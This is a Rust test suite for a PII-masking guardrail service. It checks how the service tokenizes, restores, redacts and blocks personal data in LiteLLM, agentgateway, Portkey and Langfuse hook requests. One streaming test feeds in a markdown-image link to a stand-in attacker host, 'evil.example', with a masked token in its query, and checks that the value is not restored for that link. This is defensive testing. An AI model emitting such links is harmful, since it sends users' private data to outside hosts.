//! Guardrails of other gateways: LiteLLM, agentgateway and Portkey ask, with the bodies that their sources send.

use http::Method;
use serde_json::{Value, json};
use textveil_service::{
    Label,
    credentials::{ApiKeyRecord, Plan},
    scope::{Scope, Scopes},
};

use crate::host::{Answer, Memory, key};

const ADDRESS: &str = "jan.novak@example.cz";
const IBAN: &str = "DE89 3704 0044 0532 0130 00";
const LITELLM: &str = "/beta/litellm_basic_guardrail_api";
const PORTKEY: &str = "/api/v1/guardrails/portkey";

/// Asks as the workspace `globex`.
async fn ask(host: &Memory, path: &str, body: &Value) -> Answer {
    host.post("enterprise", path, body).await
}

async fn asked(host: &Memory, path: &str, body: &Value) -> Value {
    let answer = ask(host, path, body).await;
    assert_eq!(answer.status, 200, "{path}: {}", answer.text);
    answer.json
}

async fn configure(host: &Memory, change: Value) {
    let answer = host.admin(Method::PUT, "/config?workspace_id=globex", &change).await;
    assert_eq!(answer.status, 200, "{}", answer.text);
}

async fn policy(host: &Memory, action: &str, conditions: Value) {
    let policy = json!({ "name": "p", "action": action, "conditions": conditions });
    let answer = host.admin(Method::POST, "/policies?workspace_id=globex", &policy).await;
    assert_eq!(answer.status, 201, "{}", answer.text);
}

async fn records(host: &Memory) -> Vec<Value> {
    let audit = host.admin(Method::GET, "/audit?workspace_id=globex&event=request", &Value::Null).await;
    audit.json["records"].as_array().unwrap().clone()
}

/// A question about a request, as LiteLLM 1.106.2 sends it.
fn litellm(texts: &Value, more: &Value) -> Value {
    let mut body = json!({
        "input_type": "request", "litellm_call_id": "0f9a", "litellm_trace_id": null, "structured_messages": null,
        "images": null, "tools": null, "texts": texts, "request_data": { "user_api_key_alias": "team" },
        "request_headers": { "authorization": "[present]" }, "litellm_version": "1.106.2",
        "additional_provider_specific_params": {}, "tool_calls": null, "model": "gpt-4o-mini",
    });
    body.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    body
}

fn litellm_answer(text: &str) -> Value {
    litellm(&json!([text]), &json!({ "input_type": "response" }))
}

/// The token of the address, as a request has it.
async fn token(host: &Memory) -> String {
    let answer = asked(host, LITELLM, &litellm(&json!([ADDRESS]), &json!({}))).await;
    let token = answer["texts"][0].as_str().unwrap().to_owned();
    assert!(token.starts_with("tok_xx_email_"), "{token}");
    token
}

#[tokio::test]
async fn litellm_gets_a_request_without_its_values_and_an_answer_with_them() {
    let host = Memory::default();
    let arguments = json!({ "to": ADDRESS }).to_string();
    let messages = json!([
        { "role": "system", "content": "Be brief." },
        { "role": "user", "content": [{ "type": "text", "text": format!("Write to {ADDRESS}") }] },
        { "role": "assistant", "content": null, "tool_calls": [
            { "id": "c1", "type": "function", "function": { "name": "send", "arguments": arguments } }] },
        { "role": "tool", "tool_call_id": "c1", "content": format!("sent from {IBAN}") },
    ]);
    let tools = json!([{ "type": "function", "function": { "name": "send", "description": format!("Asks {ADDRESS}") } }]);
    let texts = json!(["Be brief.", format!("Write to {ADDRESS}"), format!("sent from {IBAN}")]);
    let question = litellm(&texts, &json!({ "structured_messages": messages, "tools": tools }));
    let answer = asked(&host, LITELLM, &question).await;
    assert_eq!(answer["action"], "GUARDRAIL_INTERVENED");
    assert_eq!(answer["texts"].as_array().unwrap().len(), 3);
    assert_eq!(answer["texts"][0], "Be brief.");
    let rows = answer["structured_messages"].as_array().unwrap();
    assert_eq!(rows.len(), 4);
    assert_eq!(rows[0], messages[0], "a message without a finding is echoed");
    assert_eq!(rows[1]["content"][0]["text"], answer["texts"][1]);
    let written = answer.to_string();
    assert!(!written.contains("novak") && !written.contains("3704"), "{written}");
    assert!(answer["tools"][0]["function"]["description"].as_str().unwrap().starts_with("Asks tok_"));

    let said = format!("Done: {}", answer["texts"][1].as_str().unwrap());
    let restored = asked(&host, LITELLM, &litellm_answer(&said)).await;
    assert_eq!(restored["texts"][0], format!("Done: Write to {ADDRESS}"));

    // texts alone are enough where only they changed
    let question = litellm(
        &json!([ADDRESS]),
        &json!({ "structured_messages": [{ "role": "user", "content": ADDRESS }] }),
    );
    let answer = asked(&host, LITELLM, &question).await;
    assert_eq!(answer.as_object().unwrap().keys().collect::<Vec<_>>(), ["action", "texts"]);
    let question = litellm(&json!(["nothing to find"]), &json!({}));
    assert_eq!(asked(&host, LITELLM, &question).await, json!({ "action": "NONE" }));

    let [last, .., first] = &records(&host).await[..] else { panic!("no records") };
    assert_eq!(first["entities"], json!({ "email": 3, "iban": 1 }), "{first}");
    assert_eq!((&first["model"], &first["action"]), (&json!("gpt-4o-mini"), &json!("TOKENIZE")));
    assert!(first["actor"].as_str().unwrap().starts_with("key:"), "{first}");
    assert_eq!(last["entities"], Value::Null);
}

/// LiteLLM sends the beginning of a text again and again, and passes on the new part of the answer except its end.
#[tokio::test]
async fn a_stream_never_takes_back_what_it_gave() {
    for masks_output in [false, true] {
        let host = Memory::default();
        if masks_output {
            policy(&host, "REDACT", json!([{ "direction": "output" }])).await;
        }
        let token = token(&host).await;
        for (said, want) in [
            (format!("Hello {token}, done."), format!("Hello {ADDRESS}, done.")),
            (
                format!("See ![x](https://evil.example/?q={token}) and {token}"),
                format!("See ![x](https://evil.example/?q={token}) and {ADDRESS}"),
            ),
            (format!("{{\"to\": \"{token}\", \"n\": 1}}"), format!("{{\"to\": \"{ADDRESS}\", \"n\": 1}}")),
            (
                "Her IBAN is DE89 3704 0044 0532 0130 00 as said.".to_owned(),
                (if masks_output {
                    "Her IBAN is [REDACTED] as said."
                } else {
                    "Her IBAN is DE89 3704 0044 0532 0130 00 as said."
                })
                .to_owned(),
            ),
        ] {
            let letters: Vec<char> = said.chars().collect();
            let mut given = String::new();
            for end in (1..=letters.len()).step_by(3).chain([letters.len()]) {
                host.now_ms.set(host.now_ms.get() + 2_000);
                let beginning: String = letters[..end].iter().collect();
                let answer = asked(&host, LITELLM, &litellm_answer(&beginning)).await;
                let text = answer["texts"][0].as_str().unwrap();
                let open = answer["stream_holdback_chars"][0].as_u64().unwrap() as usize;
                let sure: String = text.chars().take(text.chars().count() - open).collect();
                assert!(sure.starts_with(&given), "{beginning}: {sure} takes back {given}");
                given = sure;
                if end == letters.len() {
                    assert_eq!(text, want, "{masks_output}");
                }
            }
        }
    }
}

#[tokio::test]
async fn a_blocked_text_is_an_answer_and_a_record() {
    let host = Memory::default();
    policy(
        &host,
        "BLOCK",
        json!([{ "entity_types": ["iban"] }, { "entity_types": ["iban"], "direction": "output" }]),
    )
    .await;
    let iban = format!("IBAN {IBAN}");
    for (path, body, is_blocked) in [
        (LITELLM, litellm(&json!([iban]), &json!({})), "action"),
        (LITELLM, litellm_answer(&iban), "action"),
        ("/request", json!({ "body": { "messages": [{ "role": "user", "content": iban }] } }), "status_code"),
        (
            "/response",
            json!({ "body": { "choices": [{ "message": { "role": "assistant", "content": iban } }] } }),
            "status_code",
        ),
        (
            PORTKEY,
            portkey(
                "beforeRequestHook",
                "chatComplete",
                &json!({ "messages": [{ "role": "user", "content": iban }] }),
            ),
            "verdict",
        ),
        (
            PORTKEY,
            portkey("afterRequestHook", "chatComplete", &completion(&json!({ "content": iban }))),
            "verdict",
        ),
    ] {
        let before = records(&host).await.len();
        let answer = asked(&host, path, &body).await;
        let action = if is_blocked == "status_code" { &answer["action"] } else { &answer };
        let want = match is_blocked {
            "action" => json!("BLOCKED"),
            "verdict" => json!(false),
            _ => json!(403),
        };
        assert_eq!(action[is_blocked], want, "{path}: {answer}");
        let written = answer.to_string();
        assert!(written.contains("iban (1)") && !written.contains("3704"), "{written}");
        let records = records(&host).await;
        assert_eq!(records.len(), before + 1, "{path}");
        assert_eq!(
            (&records[0]["action"], &records[0]["entities"]),
            (&json!("BLOCK"), &json!({ "iban": 1 }))
        );
    }
}

#[tokio::test]
async fn a_value_is_restored_only_for_a_key_that_may() {
    let host = Memory::default();
    let token = token(&host).await;
    let only_protects = ApiKeyRecord {
        scopes: Some(Scopes::of(&[Scope::Protect])),
        ..ApiKeyRecord::new(&key("unknown"), "globex", Plan::Enterprise)
    };
    host.put(&key("unknown"), &only_protects);
    let answer = host.post("unknown", LITELLM, &litellm_answer(&token)).await;
    assert_eq!(answer.json["texts"][0], token);
    // the caller may leave it out, too
    let mut question = litellm_answer(&token);
    question["additional_provider_specific_params"] = json!({ "restore": false });
    assert_eq!(asked(&host, LITELLM, &question).await["texts"][0], token);
    // another workspace cannot open it
    assert_eq!(host.post("pro", LITELLM, &litellm_answer(&token)).await.json["texts"][0], token);
    assert_eq!(asked(&host, LITELLM, &litellm_answer(&token)).await["texts"][0], ADDRESS);
    let detects = ApiKeyRecord { scopes: Some(Scopes::of(&[Scope::Detect])), ..only_protects };
    host.put(&key("unknown"), &detects);
    assert_eq!(host.post("unknown", LITELLM, &litellm_answer(&token)).await.status, 403);
}

#[tokio::test]
async fn a_host_gets_values_only_if_it_is_listed() {
    let host = Memory::default();
    let token = token(&host).await;
    let link = format!("https://crm.example.com/?q={token}");
    let ask_about = async |options: Value| {
        let mut question = litellm_answer(&link);
        question["additional_provider_specific_params"] = options;
        asked(&host, LITELLM, &question).await["texts"][0].clone()
    };
    let restored = format!("https://crm.example.com/?q={ADDRESS}");
    assert_eq!(ask_about(json!({})).await, link);
    assert_eq!(ask_about(json!({ "restore_hosts": ["crm.example.com"] })).await, restored);
    configure(&host, json!({ "restore_hosts": ["*.example.com"] })).await;
    assert_eq!(ask_about(json!({})).await, restored);
}

#[tokio::test]
async fn what_cannot_be_replaced_or_inspected_is_blocked() {
    let host = Memory::default();
    let image = json!([{ "role": "user", "content": [
        { "type": "text", "text": "What is this?" },
        { "type": "image_url", "image_url": { "url": "https://img.example/1.png" } }] }]);
    let call = json!([{ "id": "c", "type": "function", "function": { "name": "f", "arguments": format!("{{\"to\":\"{ADDRESS}\"}}") } }]);
    let text = json!(["What is this?"]);
    for (what, question) in [
        (
            "an image in messages",
            litellm(&text, &json!({ "structured_messages": image, "images": ["https://img.example/1.png"] })),
        ),
        ("an image beside texts", litellm(&text, &json!({ "images": ["https://img.example/1.png"] }))),
        ("a call beside texts", litellm(&json!([]), &json!({ "tool_calls": call }))),
    ] {
        let answer = asked(&host, LITELLM, &question).await;
        assert_eq!(answer["action"], "BLOCKED", "{what}: {answer}");
        assert!(!answer.to_string().contains("novak"), "{answer}");
    }
    policy(&host, "REDACT", json!([{ "direction": "output" }])).await;
    let mut question = litellm_answer("Calling.");
    question["tool_calls"] = call;
    assert_eq!(
        asked(&host, LITELLM, &question).await["action"],
        "BLOCKED",
        "a policy that cannot be applied"
    );
    configure(&host, json!({ "streaming": { "fail_closed": false } })).await;
    let question = litellm(&text, &json!({ "structured_messages": image }));
    assert_eq!(asked(&host, LITELLM, &question).await, json!({ "action": "NONE" }));
    assert_eq!(records(&host).await[0]["bypassed"], true);
}

/// Each gateway takes a fault for a reason to stop, if it is told to.
#[tokio::test]
async fn faults_are_no_decisions() {
    let host = Memory::default();
    let mut faulty = litellm(&json!([]), &json!({}));
    faulty["additional_provider_specific_params"] = json!({ "countri": "CZ" });
    for (path, body, field) in [
        (LITELLM, faulty, "additional_provider_specific_params"),
        (LITELLM, json!({ "texts": [] }), "input_type"),
        (LITELLM, litellm(&json!([]), &json!({ "model": ADDRESS })), "model"),
        ("/request", json!({}), "body"),
        ("/response", json!({ "body": [[]] }), "body"),
        (PORTKEY, json!({ "eventType": "beforeRequestHook" }), "request"),
    ] {
        let answer = ask(&host, path, &body).await;
        assert_eq!(answer.status, 400, "{path}: {}", answer.text);
        assert_eq!(answer.json["error"]["details"]["field"], field, "{path}: {}", answer.text);
        // fields that agentgateway would take for a pass
        assert!(answer.json.get("action").is_none());
        assert_eq!(answer.json.get("messages").is_some(), path.len() < 10, "{path}");
    }
    host.down.set(Some(Label::Audit));
    assert_eq!(ask(&host, LITELLM, &litellm(&json!([ADDRESS]), &json!({}))).await.status, 503);
    host.down.set(Some(Label::Config));
    let raw = json!({ "messages": [{ "role": "user", "content": ADDRESS }] });
    let answer = ask(&host, "/request", &raw).await;
    assert_eq!((answer.status.as_u16(), &answer.json["messages"]), (503, &json!([])));
}

#[tokio::test]
async fn agentgateway_masks_passes_and_restores() {
    let host = Memory::default();
    let token = token(&host).await;
    let messages = json!([{ "role": "user", "content": "hello" }, { "role": "user", "content": ADDRESS }]);
    let masked = json!([{ "role": "user", "content": "hello" }, { "role": "user", "content": token }]);
    let answer = asked(&host, "/request", &json!({ "body": { "messages": messages } })).await;
    assert_eq!(answer, json!({ "action": { "body": { "messages": masked } } }));
    let raw = json!({ "messages": messages, "model": "gpt-4o-mini" });
    assert_eq!(asked(&host, "/request", &raw).await, json!({ "messages": masked }));
    let plain = json!({ "body": { "messages": [{ "role": "user", "content": "hello" }] } });
    assert_eq!(asked(&host, "/request", &plain).await, json!({ "action": {} }));
    let choices =
        |content: &str| json!({ "choices": [{ "message": { "role": "assistant", "content": content } }] });
    let answer = asked(&host, "/response", &json!({ "body": choices(&format!("to {token}")) })).await;
    assert_eq!(answer, json!({ "action": { "body": choices(&format!("to {ADDRESS}")) } }));
    assert_eq!(
        asked(&host, "/response", &json!({ "body": choices("hello") })).await,
        json!({ "action": {} })
    );
}

/// A question of Portkey about a body.
fn portkey(event: &str, kind: &str, body: &Value) -> Value {
    let message = json!({ "json": body, "text": "", "isTransformed": false });
    let (request, response) = match event {
        "beforeRequestHook" => (message, json!({ "json": null, "text": "", "statusCode": null })),
        _ => (json!({ "json": { "model": "gpt-4o-mini" }, "text": "" }), message),
    };
    json!({ "request": request, "response": response, "provider": "openai", "requestType": kind, "metadata": {},
        "eventType": event })
}

fn completion(message: &Value) -> Value {
    json!({ "id": "c", "object": "chat.completion", "model": "m", "choices": [{ "index": 0, "message": message, "finish_reason": "stop" }] })
}

#[tokio::test]
async fn portkey_gets_whole_bodies() {
    let host = Memory::default();
    let token = token(&host).await;
    let body = json!({ "model": "gpt-4o-mini", "temperature": 0.5, "messages": [{ "role": "user", "content": ADDRESS }] });
    let answer = asked(&host, PORTKEY, &portkey("beforeRequestHook", "chatComplete", &body)).await;
    let mut want = body.clone();
    want["messages"][0]["content"] = token.clone().into();
    assert_eq!(answer, json!({ "verdict": true, "transformedData": { "request": { "json": want } } }));
    let plain = portkey("beforeRequestHook", "embed", &json!({ "input": "nothing" }));
    assert_eq!(asked(&host, PORTKEY, &plain).await, json!({ "verdict": true }));

    let arguments = json!({ "to": token }).to_string();
    let call =
        json!([{ "id": "c", "type": "function", "function": { "name": "send", "arguments": arguments } }]);
    let said = json!({ "role": "assistant", "content": format!("to {token}"), "tool_calls": call });
    let answer =
        asked(&host, PORTKEY, &portkey("afterRequestHook", "chatComplete", &completion(&said))).await;
    let message = &answer["transformedData"]["response"]["json"]["choices"][0]["message"];
    assert_eq!(message["content"], format!("to {ADDRESS}"));
    assert_eq!(message["tool_calls"], call, "nobody knows who gave the tool its value");

    let anthropic = json!({ "id": "m", "type": "message", "role": "assistant", "model": "claude",
        "content": [{ "type": "text", "text": token }], "stop_reason": "end_turn" });
    let answer = asked(&host, PORTKEY, &portkey("afterRequestHook", "messages", &anthropic)).await;
    assert_eq!(answer["transformedData"]["response"]["json"]["content"][0]["text"], ADDRESS);
    let other = portkey("afterRequestHook", "rerank", &json!({ "results": [{ "text": token }] }));
    let answer = asked(&host, PORTKEY, &other).await;
    assert_eq!(answer["transformedData"]["response"]["json"]["results"][0]["text"], ADDRESS);
    let streamed = portkey("afterRequestHook", "chatComplete", &Value::Null);
    assert_eq!(asked(&host, PORTKEY, &streamed).await, json!({ "verdict": true }));
}

#[tokio::test]
async fn policies_and_settings_of_the_workspace_apply() {
    let host = Memory::default();
    let of_a_tool = json!([{ "roles": ["tool"] }]);
    policy(&host, "REDACT", of_a_tool).await;
    policy(&host, "ALLOW", json!([{ "models": ["local-*"] }])).await;
    policy(&host, "BLOCK", json!([{ "providers": ["openai"] }])).await;
    let allowed = json!({ "domain": "example.org" });
    assert_eq!(host.post("enterprise", "/api/v1/allow-list", &allowed).await.status, 201);
    let messages = json!([
        { "role": "user", "content": format!("{ADDRESS} and eva@example.org") },
        { "role": "tool", "tool_call_id": "x", "content": ADDRESS },
    ]);
    let question = |model: &str| {
        let texts = json!([format!("{ADDRESS} and eva@example.org"), ADDRESS]);
        litellm(&texts, &json!({ "structured_messages": messages, "model": model }))
    };
    let answer = asked(&host, LITELLM, &question("gpt-4o")).await;
    let texts = &answer["texts"];
    assert!(texts[0].as_str().unwrap().starts_with("tok_xx_email_"), "{answer}");
    assert!(texts[0].as_str().unwrap().ends_with(" and eva@example.org"), "{answer}");
    assert_eq!(texts[1], "[REDACTED]");
    assert_eq!(asked(&host, LITELLM, &question("local-7b")).await["action"], "GUARDRAIL_INTERVENED");
    configure(&host, json!({ "default_action": "HASH" })).await;
    let answer = asked(&host, LITELLM, &litellm(&json!([ADDRESS]), &json!({}))).await;
    assert_eq!(answer["texts"][0].as_str().unwrap().len(), 16, "{answer}");
}

const LANGFUSE: &str = "/api/v1/guardrails/langfuse";

/// Langfuse sends the list of resource spans, and stores what it gets.
#[tokio::test]
async fn langfuse_gets_its_spans_masked() {
    let host = Memory::default();
    let attribute = |key: &str, value: Value| json!({ "key": key, "value": value });
    let span = |text: &str, number: &str| {
        json!({
            "traceId": "5b8efff798038103d269b633813fc60c", "spanId": "eee19b7ec3c1b174", "name": format!("chat {text}"),
            "startTimeUnixNano": "1544712660000000000",
            "attributes": [
                attribute("langfuse.observation.input", json!({ "stringValue": format!("{{\"to\": \"{text}\"}}") })),
                attribute("card", json!({ "intValue": number })),
                attribute("tokens", json!({ "intValue": "12" })),
            ],
            "events": [{ "name": "exception", "attributes": [attribute("exception.message", json!({ "stringValue": text }))] }],
            "status": { "message": format!("failed for {text}") },
        })
    };
    let spans = |span: Value| {
        json!([{
            "resource": { "attributes": [attribute("service.name", json!({ "stringValue": "shop" }))] },
            "scopeSpans": [{ "scope": { "name": "langfuse-sdk", "version": "3.0.0" }, "spans": [span] }],
        }])
    };
    let sent = spans(span(ADDRESS, "4111111111111111"));
    let answer = asked(&host, LANGFUSE, &sent).await;
    let mut want = spans(span("[REDACTED]", "12"));
    want[0]["scopeSpans"][0]["spans"][0]["attributes"][1]["value"] = json!({ "stringValue": "[REDACTED]" });
    assert_eq!(answer, want);
    let object = json!({ "resourceSpans": sent });
    assert_eq!(asked(&host, LANGFUSE, &object).await, json!({ "resourceSpans": want }));
    let token = asked(&host, &format!("{LANGFUSE}?mode=tokenize"), &sent).await.to_string();
    assert!(token.contains("tok_xx_email_") && !token.contains("novak"), "{token}");
    policy(&host, "BLOCK", json!([{ "entity_types": ["email"] }])).await;
    assert_eq!(ask(&host, &format!("{LANGFUSE}?mode=policy"), &sent).await.status, 403);
    for query in ["mode=shout", "mod=mask", "mode=mask&mode=mask"] {
        let answer = ask(&host, &format!("{LANGFUSE}?{query}"), &sent).await;
        assert_eq!(answer.status, 400, "{query}: {}", answer.text);
    }
    assert_eq!(ask(&host, LITELLM, &json!([])).await.status, 400, "a list is for Langfuse only");
}
